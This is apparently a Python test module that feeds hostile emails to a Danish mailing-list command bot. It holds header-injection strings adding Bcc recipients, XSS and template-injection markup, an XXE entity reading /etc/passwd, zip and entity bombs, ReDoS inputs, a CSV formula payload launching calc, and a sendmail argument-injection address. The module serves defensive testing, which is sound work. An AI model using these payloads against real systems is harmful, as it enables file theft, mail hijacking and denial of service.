"""Words that are meant to be more than words: headers, templates, HTML, formulas, patterns, sizes, archives."""

import io
import zipfile
from collections.abc import Iterator

from tests.hostile.attacks import Attack, family
from tests.hostile.stage import MEMBER, PASS, STRANGER, Box, Stage, multipart, raw

MEGABYTE = 1_000_000

_HEADERS = (
    "STATUS\r\nBcc: eve@evil.example",
    "=?utf-8?q?STATUS=0D=0ABcc:_eve@evil.example?=",
    "=?utf-8?b?U1RBVFVTDQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?STATUS=0ABcc:_eve@evil.example=0A=0A<script>?=",
    "=?utf-8?q?STATUS=E2=80=A8Bcc:_eve@evil.example?=",
    "=?utf-8?q?STATUS=C2=85Bcc:_eve@evil.example?=",
    "=?utf-8?q?STATUS=0BBcc:_eve@evil.example?=",
    "=?utf-7?q?STATUS+AA0ACg-Bcc:_eve@evil.example?=",
    "=?utf-16?b?/v8AUwBUAEEAVABVAFMADQAKAEIAYwBjADoAIABl?=",
    "STATUS =?utf-8?q?=00=00Bcc:_x?=",
    "STATUS" + " =?utf-8?q?=0D=0AX?=" * 200,
)


@family
def headers_in_a_subject_or_a_name(stage: Stage) -> Iterator[Attack]:
    for box in stage.boxes:
        for subject in _HEADERS:
            yield Attack(
                f"{box.key} {subject[:30]}",
                box.key,
                raw(stage.head(box, stage.officer(box), subject), "HJÆLP"),
            )
        for name in _HEADERS[1:8]:
            mail = raw(stage.head(box, f"{name} <{box.officer.email}>", "STATUS"), "")
            yield Attack(f"{box.key} {name[:30]} as a name", box.key, mail)
    box = stage.box("skoler")
    for field in (
        "In-Reply-To: <x@y>\r\n\tBcc: eve@evil.example",
        "References: <a\x0b@b> <c@d>\x85Bcc: eve@evil.example",
        "References: " + "<x@y.example> " * 3_000,
        "Message-ID: <a b\x00c\x0aBcc: eve@evil.example@x>",
    ):
        head = [("Authentication-Results", PASS), *stage.head(box, stage.officer(box), "STATUS")]
        yield Attack(field[:30], box.key, raw([*head, tuple(field.split(": ", 1))], ""))


_MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<iframe src=//evil.example>",
    "</td></table><form action=//evil.example><input>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='javascript:\"x\"'>klik</a>",
    "<!-- --><style>*{display:none}</style>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# #} #}",
    "{{ mailbox.secretariat }}",
    "%(name)s {0.__class__} ${x} `x` \\x",
    "\x11- liste\x12\x13\x14 = JA",
    "= JA\n> citat\n- liste",
)


@family
def markup_in_an_officer_s_name(stage: Stage) -> Iterator[Attack]:
    for box in stage.boxes:
        for text in _MARKUP:
            mail = raw(stage.head(box, stage.officer(box), text.replace("\n", " ")), f"STATUS\n{text}")
            yield Attack(f"{box.key} {text[:30]!a}", box.key, mail)


@family
def markup_in_what_people_ask(stage: Stage) -> Iterator[Attack]:
    """Shown to the officers, and told back to whoever wrote it."""
    box = stage.box("skoler")
    for text in _MARKUP:
        sender = f'"{text.replace(chr(34), "").replace(chr(10), " ")}" <rita@oesterbaek.example>'
        question = f"Hej\n\nHvor længe varer møderne i IT-netværket? {text}\n\n{text}"
        yield Attack(
            f"a question {text[:30]!a}",
            box.key,
            raw(stage.head(box, sender, text[:80]), question),
            may_bring="answer",
        )
        details = f"Navn: {text}\nSkole: ØTS {text}\nE-mail: rita@oesterbaek.example\nTitel: {text}"
        joining = f"Jeg vil gerne være med i IT-netværket.\n\n{details}"
        yield Attack(
            f"a name {text[:30]!a}",
            box.key,
            raw(stage.head(box, sender, "Tilmelding"), joining),
            may_bring="answer",
        )


def _proved(
    stage: Stage, box: Box, text: str | bytes, kind: str = "text/plain; charset=utf-8", subject: str = ""
) -> bytes:
    return raw([("Authentication-Results", PASS), *stage.head(box, stage.officer(box), subject)], text, kind)


@family
def giants(stage: Stage) -> Iterator[Attack]:
    box, open_house = stage.box("skoler"), stage.box("aaben")
    for name, text in {
        "three megabytes of text": "STATUS\n" + "ordet er frit " * 210_000,
        "one line of a megabyte": "STATUS " + "x" * MEGABYTE,
        "ten thousand commands": f"AFMELD {MEMBER}\n" * 10_000,
        "ten thousand of another": "RET x\n" * 10_000,
        "ten thousand details": "TILMELD\n" + "Navn: Eve Ond\n" * 10_000,
        "ten thousand blank lines": "STATUS" + "\n" * 10_000 + f"AFMELD {MEMBER}",
        "a command behind much": "STATUS\n" * 3_000 + f"AFMELD {MEMBER}",
        "deep quotes": "STATUS\n" + "".join(f"{'>' * depth} x\n" for depth in range(1_000)),
    }.items():
        yield Attack(
            f"{name}, forged",
            open_house.key,
            raw(stage.head(open_house, stage.officer(open_house), ""), text),
        )
        if "ten thousand commands" not in name:
            yield Attack(
                f"{name}, unknown lines", box.key, _proved(stage, box, text + "\nHvad nu?\nHvad nu?")
            )
    yield Attack(
        "ten thousand headers",
        box.key,
        raw([("X-A", "b")] * 10_000 + stage.head(box, stage.officer(box), ""), "JA"),
    )
    yield Attack(
        "a giant subject", box.key, raw(stage.head(box, stage.officer(box), "STATUS " + "x" * 200_000), "")
    )
    nested = b"STATUS"
    for depth in range(200):
        body, kind = multipart(("Content-Type: text/plain", "x"), ("", nested), boundary=f"b{depth}")
        nested = f"Content-Type: {kind}\r\n\r\n".encode() + body
    yield Attack("parts in parts", box.key, _proved(stage, box, body, kind))
    deep = "<div>" * 20_000 + "STATUS" + "</div>" * 20_000
    yield Attack("tags in tags", box.key, _proved(stage, box, deep, "text/html"))


_RUNAWAY = (
    "AFMELD " + "a" * 60_000 + "@",
    "AFMELD " + "a@" * 30_000,
    "AFMELD " + "." * 60_000,
    "RET " + " " * 60_000 + "x",
    "RET x@y.example\n" + "Navn" + " " * 60_000 + "x",
    "TILMELD\n" + "a: " * 20_000,
    "TILMELD\nTelefon: " + "1 " * 30_000,
    "TILMELD\nNavn: " + "A-" * 30_000,
    "TILMELD\nE-mail: " + "x@" + "a." * 30_000,
    "TILMELD\nSkole: " + "Ø" * 60_000,
    "NYT" + "\t" * 60_000 + "x",
    "NYT x\nNetværk: " + "it og " * 10_000,
    "JA" + " ja" * 20_000 + " men",
    "GODKEND " + "ok " * 20_000 + "nej",
    "STATUS\n" + "-" * 60_000,
    "STATUS\n" + "_" * 60_000 + "\n",
    "STATUS\nDen " + "1" * 60_000 + " skrev",
    "STATUS\nOn " + "Mon, " * 10_000 + " wrote",
    "STATUS\n" + "Fra: " * 10_000,
    "Re: " * 10_000 + "STATUS",
)


@family
def patterns_that_run_away(stage: Stage) -> Iterator[Attack]:
    box = stage.box("skoler")
    for text in _RUNAWAY:
        # Of news a preview is shown to the officer who sent it.
        brings = "answer" if text.startswith("NYT") else "nothing"
        yield Attack(f"{text[:24]!a}", box.key, _proved(stage, box, text + "\nHvad nu?"), may_bring=brings)
        yield Attack(
            f"{text[:24]!a} in the subject", box.key, _proved(stage, box, "", subject=text.replace("\n", " "))
        )
    for kind in ("preview", "approval-request"):
        for text in _RUNAWAY[12:14]:
            head = [("Authentication-Results", PASS), *stage.head(box, stage.officer(box), "")]
            yield Attack(f"{kind} {text[:9]}", box.key, raw([*head, ("In-Reply-To", box.id_of(kind))], text))


@family
def control_characters(stage: Stage) -> Iterator[Attack]:
    for box in stage.boxes:
        for text in (
            f"AFMELD\x00 {MEMBER}",
            f"AFM\x00ELD {MEMBER}",
            f"\x1b[2JAFMELD {MEMBER}",
            f"AFMELD \x08\x08{MEMBER}",
            f"\N{RIGHT-TO-LEFT OVERRIDE}DLEMFA {MEMBER}",
            f"AFMELD {MEMBER[::-1]}\N{RIGHT-TO-LEFT OVERRIDE}",
            "\ufeffFORTRYD\u2028GODKEND",
            "\udcff\udcfeFORTRYD",
            "\x1a\x04FORTRYD\x7f",
        ):
            yield Attack(f"{box.key} {text!a}", box.key, raw(stage.head(box, stage.officer(box), ""), text))


def _bomb(sheet: bytes, *, times: int = 1) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "xl/workbook.xml", "<workbook><sheets><sheet name='a' r:id='1'/></sheets></workbook>"
        )
        for number in range(times):
            archive.writestr(f"xl/worksheets/sheet{number + 1}.xml", sheet)
    return held.getvalue()


@family
def lists_that_explode(stage: Stage) -> Iterator[Attack]:
    """Even an officer's own list may be somebody else's file."""
    box = stage.box("skoler")
    row = b"<row><c t='inlineStr'><is><t>x</t></is></c></row>"
    entities = b'<!DOCTYPE x [<!ENTITY a "xxxxxxxxxx">' + b"".join(
        f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" * 1}{("&" + chr(97 + n) + ";") * 9}">'.encode()
        for n in range(9)
    )
    outside = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
    files = {
        "thirty megabytes.xlsx": _bomb(b" " * (30 * MEGABYTE)),
        "a million rows.xlsx": _bomb(b"<worksheet><sheetData>" + row * 400_000),
        "a thousand sheets.xlsx": _bomb(row, times=1_000),
        "entities.xlsx": _bomb(entities + b"]><worksheet>&j;</worksheet>"),
        "outside.xlsx": _bomb(outside),
        "cut.xlsx": _bomb(row)[:-30],
        "no archive.xlsx": b"PK\x03\x04" + b"\x00" * 1_000,
        "a megabyte of commas.csv": b"," * MEGABYTE,
        "one cell.csv": b"Navn;E-mail\n" + b'"' + b"x" * MEGABYTE,
        "zeros.csv": b"\x00" * MEGABYTE,
        "no one.csv": b"Navn;E-mail;Skole\n=cmd|'/c calc'!A1;ikke en adresse;x\n",
    }
    for name, content in files.items():
        body, kind = multipart(
            ("Content-Type: text/plain; charset=utf-8", "TILMELD\nNetværk: it"),
            (
                f'Content-Type: application/octet-stream; name="{name}"\r\nContent-Disposition: attachment',
                content,
            ),
        )
        yield Attack(name, box.key, _proved(stage, box, body, kind))
    open_house = stage.box("aaben")
    yield Attack("forged", "aaben", raw(stage.head(open_house, stage.officer(open_house), ""), body, kind))


@family
def addresses_with_tricks(stage: Stage) -> Iterator[Attack]:
    box = stage.box("skoler")
    for email in (
        "\N{RIGHT-TO-LEFT OVERRIDE}elpmaxe.live@eve",
        "eve@\N{RIGHT-TO-LEFT ISOLATE}evil.example",
        "e\u200bve@evil.example",
        "eve@evil.example\r\nBcc: x@evil.example",
        "eve@evil.example,x@evil.example",
        "eve@evil.example>, <x@evil.example",
        '"eve evil"@evil.example',
        "eve@localhost",
        "eve@[127.0.0.1]",
        "eve@evil",
        "-oQ/tmp@evil.example -X/tmp/x",
        "eve@evil.example\x00.dk",
        "\N{CYRILLIC SMALL LETTER IE}ve@evil.example",
        box.address,
    ):
        text = f"TILMELD\nNavn: Eve Ond\nE-mail: {email}\nSkole: ØTS\nTelefon: 28170463\nNetværk: it"
        forged = raw(stage.head(box, stage.officer(box), ""), text)
        yield Attack(f"{email!a}, forged", box.key, forged)
        yield Attack(f"{email!a}, proved", box.key, _proved(stage, box, text), may_bring="answer")
        renamed = f"RET {MEMBER}\nE-mail: {email}"
        yield Attack(f"{email!a}, a change", box.key, _proved(stage, box, renamed), may_bring="answer")


@family
def strangers_with_commands(stage: Stage) -> Iterator[Attack]:
    """From anybody else a command is ordinary mail."""
    for box in stage.boxes:
        for sender in (STRANGER, MEMBER, "rita@oesterbaek.example"):
            for text in (
                "STATUS",
                "MEDLEMMER",
                "HJÆLP",
                "FORTRYD",
                "GODKEND",
                "AFVIS",
                "JA",
                "NYT Ny dato\n\nKlik her.",
                "UNDO",
                "ANGRE",
            ):
                head = stage.head(box, f"<{sender}>", text.split("\n")[0])
                yield Attack(f"{box.key} {sender} {text[:9]}", box.key, raw(head, text))
